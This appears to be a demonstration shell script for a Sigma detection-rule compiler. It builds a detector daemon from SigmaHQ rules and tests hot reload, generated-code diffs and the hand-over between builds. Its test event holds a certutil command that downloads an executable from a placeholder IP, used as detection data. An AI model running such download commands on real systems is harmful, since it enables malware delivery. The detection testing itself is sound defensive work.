#!/usr/bin/env bash
# The story of a rules repository, played from its first to its last act: a repository with 500 rules of SigmaHQ, a detector made of it, one
# literal changed, what a reviewer sees, a hot reload, a new build, and the hand-over to it. It ends at the first thing that is not as it
# should be. It works in a temporary directory, with this checkout, and without the network once the modules are there.
#
#   contrib/story/story.sh        or: make story
#
# SIGMA_RULES names an archive (.tar.gz) of rules to take instead of the one in ../shared/corpus. Without any, the rules of this
# repository have to do.
set -eu

here=$(cd "$(dirname "$0")/../.." && pwd)
archive=${SIGMA_RULES:-$here/../shared/corpus/sigmahq-rules.tar.gz}
count=500
work=$(mktemp -d)
daemon=
export GOFLAGS=-mod=mod GOPROXY=off GOTOOLCHAIN=local GOWORK=off

fail() {
	printf 'story: %s\n' "$*" >&2
	[ ! -s "$work/log" ] || tail -n 5 "$work/log" >&2
	exit 1
}

act() { printf '\n%2ds  %s\n' "$SECONDS" "$*"; }

# of KEY: the number or text of that key in the status
of() { sed -n "s/.*\"$1\":\"\{0,1\}\([^\",}]*\).*/\1/p" "$work/status"; }

status() { "$work/rsigmad" status --url "unix://$work/api" >"$work/status" 2>/dev/null; }

# is KEY VALUE: waits until the status says so
is() {
	for _ in $(seq 150); do
		if status && [ "$(of "$1")" = "$2" ]; then
			return 0
		fi
		sleep 0.2
	done
	fail "$1 is '$(of "$1")', want $2: $(cat "$work/status")"
}

# found N: waits until there are so many detections of the rule
found() {
	for _ in $(seq 100); do
		n=$(grep -c 'File Fetched With Certutil' "$work/found.ndjson" 2>/dev/null || true)
		if [ "${n:-0}" -eq "$1" ]; then
			return 0
		fi
		sleep 0.1
	done
	fail "${n:-0} detections, want $1"
}

leave() {
	exec 3>&- || true
	if [ -n "$daemon" ] && status; then
		daemon=$(of pid) # others may have taken over
	fi
	if [ -n "$daemon" ]; then
		kill "$daemon" 2>/dev/null || true
		for _ in $(seq 50); do
			kill -0 "$daemon" 2>/dev/null || break
			sleep 0.1
		done
	fi
	rm -rf "$work"
}
trap leave EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

act 'a compiler, and a repository around it'
(cd "$here" && go build -o "$work/rsigmac" ./cmd/rsigmac)
"$work/rsigmac" init "$work/detections" --module-dir "$here" 2>&1 | sed "s|$here|CHECKOUT|; s|$work/||g"
cd "$work/detections"

if [ -f "$archive" ]; then
	mkdir "$work/sigmahq"
	tar -xzf "$archive" -C "$work/sigmahq"
	(cd "$work/sigmahq" && find rules/windows/process_creation -name '*.yml') | LC_ALL=C sort >"$work/all"
	head -n "$count" "$work/all" >"$work/names"
	act "$count rules of SigmaHQ"
	from=$work/sigmahq
else
	(cd "$here" && find rules -name '*.yml' ! -name '*_test.yml' ! -path '*/pipelines/*') | LC_ALL=C sort >"$work/names"
	count=$(wc -l <"$work/names" | tr -d ' ')
	act "no archive of rules: the $count files of this repository have to do"
	from=$here
fi
while read -r name; do
	mkdir -p "$(dirname "$name")"
	cp "$from/$name" "$name"
done <"$work/names"

act 'make generate build'
make --no-print-directory generate build RSIGMAC="$work/rsigmac" 2>&1 | tail -n 3
cp bin/rsigmad "$work/rsigmad" # asks the daemon, whichever is the daemon
"$work/rsigmad" version | head -n 2
git init -q .
git add .
git -c user.name=story -c user.email=story@example.com commit -q -m 'rules'

act 'the detector runs, on code alone'
mkfifo "$work/events"
bin/rsigmad --rules rules --input stdin --output "file://$work/found.ndjson" --api-addr "unix://$work/api" --watch-binary bin/rsigmad \
	<"$work/events" 2>"$work/log" &
daemon=$!
exec 3>"$work/events"
is status running
is rules_interpreted 0
first=$(of pid)
event='{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://198.51.100.7/a a.exe"}'
printf '%s\n' "$event" >&3
found 1
grep -q '"engine":"compiled"' "$work/found.ndjson" || fail 'the detection does not come from generated code'
echo "process $first, $(of rules_compiled) rules as code, 0 interpreted; the event is found"

act 'one literal is changed: -urlcache becomes -urlcash'
rule=rules/windows/process_creation/certutil_download.yml
sed 's/-urlcache/-urlcash/' "$rule" >"$work/rule.yml"
mv "$work/rule.yml" "$rule"

act 'the hot reload: one rule is interpreted, all others go on as code'
is rules_interpreted 1
[ "$(of pid)" = "$first" ] || fail 'another process answers'
printf '%s\n' "$event" "${event/-urlcache/-urlcash}" >&3
found 2
tail -n 1 "$work/found.ndjson" | grep -q '"engine":"interpreted"' || fail 'the detection does not come from the changed rule'
echo "process $first, $(of rules_compiled) rules as code, $(of rules_interpreted) interpreted; the old event is lost, a new one is found"

act 'what the reviewer sees of the generated code: three lines'
"$work/rsigmac" generate -r rules -o gen 2>&1 | tail -n 1
git diff -U0 -- '*certutil_download_gen.go' | grep '^[-+]'
lines=$(git diff --numstat -- '*certutil_download_gen.go' | cut -f 1,2 | tr '\t' ' ')
[ "$lines" = '3 3' ] || fail "the generated code differs in $lines lines, want 3 3"
files=$(git diff --name-only -- gen | grep -c '\.go$')
[ "$files" -eq 1 ] || fail "$files generated files differ, want 1"

act 'rsigmac diff names an event that is lost'
"$work/rsigmac" diff --git HEAD rules --no-code >"$work/diff"
cat "$work/diff"
grep -q '1 changed in meaning' "$work/diff" || fail 'diff does not say that one rule has changed'
grep -q 'matched before only: .*-urlcache' "$work/diff" || fail 'diff does not name the lost event'

act 'a new build; nobody tells the daemon'
make --no-print-directory build
"$work/detections/bin/rsigmad" version | head -n 1
is last_result taken_over
is rules_interpreted 0
second=$(of pid)
[ "$second" != "$first" ] || fail 'the same process answers'
daemon=$second
printf '%s\n' "$event" "${event/-urlcache/-urlcash}" >&3
found 3
tail -n 1 "$work/found.ndjson" | grep -q '"engine":"compiled"' || fail 'the detection does not come from the new code'
grep -o '"message":"[^"]*\(new program\|Handed over\|Taken over\)[^"]*"' "$work/log" | cut -d '"' -f 4
echo "process $second, $(of rules_compiled) rules as code, 0 interpreted; no event was lost between the two"

act 'the end'
